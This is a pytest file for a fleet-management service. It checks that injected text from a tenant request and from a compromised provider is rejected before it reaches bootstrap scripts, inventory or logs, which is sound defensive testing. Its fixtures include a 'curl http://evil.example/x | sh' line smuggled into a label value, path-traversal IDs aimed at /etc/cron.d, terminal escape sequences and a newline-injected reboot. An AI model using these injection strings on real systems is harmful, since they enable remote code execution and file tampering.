"""Text of a tenant and of a provider that tries to become a command, a path or an escape sequence.

An operator and a shard run as processes of their own. The API server stores everything it is given,
as one with an older definition of CapacityRequest does; the provider is one that does not check.
"""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest

from bigfleet.kube.kinds import CAPACITY_REQUESTS, EVENTS
from bigfleet.model.machines import CapacityType, Host, MachineState
from bigfleet.model.provider_calls import (
    Code,
    ConfigureCall,
    CreateCall,
    DeleteCall,
    DrainCall,
    ListCall,
    MachineRecord,
    Peer,
    Rejected,
)
from bigfleet.model.session_frames import RollupFrame
from bigfleet.v1alpha1 import capacity_pb2 as pb
from bigfleet.wire.machines import ack_bytes, list_bytes, list_entry, machine_bytes
from bigfleet.wire.provider_server import ProviderEndpoint
from bigfleet.wire.session_client import SessionClient
from tests.kube_api import FakeApiServer, kubeconfig_for
from tests.shard_processes.process import Running, serving, shard_words
from tests.shard_system.operators import hello_of
from tests.shard_system.rig import page
from tests.shard_system.waiting import until

SHELL = "std-8\ncurl http://evil.example/x | sh"
TYPE = "node.kubernetes.io/instance-type"
TEMPLATE = """#!/bin/sh
join-fleet {{ .ClusterID }}
{{ range .Requirements }}# {{ .Key }} {{ .Operator }} {{ .Values }}
{{ end }}"""
GOOD_IDS = ("sim/m-1", "sim/m-2")
#: Fifty of them, as a provider sent that was attacked.
BAD_IDS = tuple(
    text.format(number)
    for number in range(10)
    for text in (
        "../../etc/cron.d/m-{}",
        "sim/../../m-{}",
        "m-{}\x1b[2J\x1b]0;owned\x07",
        "m-{}\nreboot",
        "m {}",
    )
)


@dataclass
class CarelessProvider:
    """Lists everything it has, and keeps every blob that it is given."""

    machines: dict[str, MachineRecord]
    blobs: list[bytes] = field(default_factory=list)

    async def list(self, call: ListCall, peer: Peer) -> bytes:
        return list_bytes((list_entry(machine_bytes(m)) for m in self.machines.values()), b"")

    async def get(self, machine_id: str, peer: Peer) -> bytes:
        return machine_bytes(self.machines[machine_id])

    async def configure(self, call: ConfigureCall, peer: Peer) -> bytes:
        self.blobs.append(call.bootstrap_blob)
        record = replace(
            self.machines[call.machine_id],
            state=MachineState.CONFIGURED,
            cluster=call.cluster_id,
            shard_metadata=call.shard_metadata,
        )
        self.machines[call.machine_id] = record
        return ack_bytes("o-1", machine_bytes(record))

    async def create(self, call: CreateCall, peer: Peer) -> bytes:
        raise Rejected(Code.UNIMPLEMENTED, "create")

    async def drain(self, call: DrainCall, peer: Peer) -> bytes:
        raise Rejected(Code.UNIMPLEMENTED, "drain")

    async def delete(self, call: DeleteCall, peer: Peer) -> bytes:
        raise Rejected(Code.UNIMPLEMENTED, "delete")


def idle(name: str) -> MachineRecord:
    return MachineRecord(
        id=name,
        state=MachineState.IDLE,
        host=Host("sim", "i-1"),
        instance_type="std-8",
        zone="sim-1a",
        capacity_type=CapacityType.ON_DEMAND,
        resources={"cpu": "8", "memory": "32Gi"},
    )


@asynccontextmanager
async def provided(provider: CarelessProvider) -> AsyncIterator[str]:
    endpoint = ProviderEndpoint(provider)
    port = await endpoint.start()
    await endpoint.set_serving(True)
    try:
        yield f"127.0.0.1:{port}"
    finally:
        await endpoint.stop()


async def metrics_of(process: Running) -> str:
    started = process.started
    assert started is not None
    return (await page(int(started["metrics_port"]), "/metrics"))[1]


@dataclass
class Fleet:
    provider: CarelessProvider
    shard: Running


@pytest.fixture
async def fleet(tmp_path: Path) -> AsyncIterator[Fleet]:
    provider = CarelessProvider({name: idle(name) for name in (*GOOD_IDS, *BAD_IDS)})
    async with (
        provided(provider) as address,
        serving(*shard_words(tmp_path / "data", address)) as shard,
    ):
        await until(lambda: shard.logged("machines_rejected"), lambda: shard.lines)
        yield Fleet(provider, shard)


def request(name: str, *values: str) -> dict[str, object]:
    requirement = {"key": TYPE, "operator": "In", "values": list(values)}
    return {
        "metadata": {"name": name, "namespace": "team"},
        "spec": {"priority": 0, "resources": {"cpu": "4"}, "requirements": [requirement]},
    }


async def test_injected_text_reaches_no_node_and_no_inventory(fleet: Fleet, tmp_path: Path) -> None:
    """Both ways in at once: a tenant's request through the operator, a provider's machines."""
    (tmp_path / "bootstrap.tmpl").write_text(TEMPLATE)
    async with FakeApiServer() as server:
        server.put(CAPACITY_REQUESTS, request("good", "std-8"))
        server.put(CAPACITY_REQUESTS, request("bad", "std-8", SHELL))
        (tmp_path / "kubeconfig").write_text(kubeconfig_for(server))
        words = (
            *("operator", "--cluster-id", "shop", "--shard-addr", fleet.shard.address),
            *("--kubeconfig", str(tmp_path / "kubeconfig"), "--namespace", "bigfleet"),
            *("--metrics-addr", "127.0.0.1:0", "--rollup-debounce", "50ms"),
            *("--bootstrap-template-file", str(tmp_path / "bootstrap.tmpl")),
        )
        async with serving(*words) as operator:
            await until(
                lambda: fleet.provider.blobs, lambda: (operator.lines[-3:], fleet.shard.lines)
            )
            await until(lambda: server.objects(EVENTS), lambda: operator.lines)
            (event,) = server.objects(EVENTS).values()
            skipped = await metrics_of(operator)
    assert fleet.provider.blobs == [f"#!/bin/sh\njoin-fleet shop\n# {TYPE} In [std-8]\n".encode()]
    assert event["reason"] == "UntranslatableRequirement"
    assert "spec.requirements[0].values[1]" in event["message"]
    assert 'crs_skipped_total{reason="values"} 1' in skipped
    told = await metrics_of(fleet.shard)
    assert f'machines_rejected_total{{reason="syntax"}} {len(BAD_IDS)}' in told
    assert await fleet.shard.metric("inventory_machines") == len(GOOD_IDS)
    said = fleet.shard.logged("machines_rejected")[0]
    assert "leave that part out" in said["msg"]
    assert said["msg"].isprintable()
    assert not any("evil" in str(line) for line in fleet.shard.lines)


async def test_an_operator_that_checks_nothing_is_refused_at_the_shards_door(fleet: Fleet) -> None:
    term = pb.NodeSelectorRequirement(key=TYPE, operator=1, values=["std-8", SHELL])  # type: ignore[arg-type]
    need = pb.CapacityNeed(requirements=[term], aggregate_resources={"cpu": "4"})
    content = pb.ClusterCapacityNeeds(cluster_id="shop", needs=[need]).SerializeToString()
    async with (
        SessionClient(fleet.shard.address) as client,
        client.open(hello_of("shop")) as session,
    ):
        await session.send(RollupFrame(content))
        await until(lambda: fleet.shard.logged("rollup_rejected"), lambda: fleet.shard.lines)
    (said,) = fleet.shard.logged("rollup_rejected")
    assert said["reason"] == "label_syntax"
    assert "requirements[0].values[1]" in said["msg"]
    assert said["msg"].isprintable()
    told = await metrics_of(fleet.shard)
    assert 'rollups_rejected_total{cluster="shop",reason="label_syntax"} 1' in told
    assert fleet.provider.blobs == []
